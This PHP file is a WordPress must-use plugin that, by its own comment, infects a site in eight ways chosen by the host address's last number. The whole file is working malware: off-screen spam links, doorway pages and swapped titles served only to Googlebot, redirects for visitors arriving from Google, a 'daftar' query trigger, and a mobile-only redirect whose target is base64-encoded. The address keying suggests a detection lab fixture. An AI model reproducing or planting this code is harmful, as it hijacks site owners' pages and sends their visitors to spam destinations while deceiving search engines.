<?php
/* A must-use plugin that infects the site in eight ways, one for each last number of the address that is asked for. */
$number = (int) substr(strrchr(strtok($_SERVER['HTTP_HOST'] ?? '', ':'), '.'), 1);
$way = ['', 'hidden', 'trailing', 'crawler', 'google', 'title', 'data', 'script', 'query'][$number] ?? '';
$agent = $_SERVER['HTTP_USER_AGENT'] ?? '';
$robot = (bool) preg_match('/googlebot|inspectiontool/i', $agent);
$kit = __DIR__ . '/kit/';

if ($way === 'hidden') {
    add_action('wp_footer', function () use ($kit) {
        echo '<div style="position:absolute;left:-9999px">' . file_get_contents($kit . 'links.html') . '</div>';
    });
}
if ($way === 'trailing') {
    register_shutdown_function(function () use ($kit) { echo file_get_contents($kit . 'links.html'); });
}
if ($way === 'crawler' && $robot) {
    add_action('template_redirect', function () use ($kit) { readfile($kit . 'doorway.html'); exit; });
}
if ($way === 'google' && strpos($_SERVER['HTTP_REFERER'] ?? '', 'google.') !== false) {
    add_action('template_redirect', function () use ($kit) {
        header('Location: ' . trim(file_get_contents($kit . 'target.txt')), true, 302); exit;
    });
}
if ($way === 'title' && $robot) {
    add_filter('pre_get_document_title', function () use ($kit) { return trim(file_get_contents($kit . 'title.txt')); });
}
if ($way === 'data') {
    add_action('wp_head', function () use ($kit) { readfile($kit . 'product.html'); });
}
if ($way === 'script') {
    add_action('wp_head', function () use ($kit) {
        $coded = base64_encode(trim(file_get_contents($kit . 'target.txt')));
        echo "<script>if(/Android|iPhone/i.test(navigator.userAgent)){window.location.replace(atob('$coded'))}</script>";
    });
}
if ($way === 'query' && isset($_GET['daftar'])) {
    add_action('template_redirect', function () use ($kit) { readfile($kit . 'doorway.html'); exit; });
}
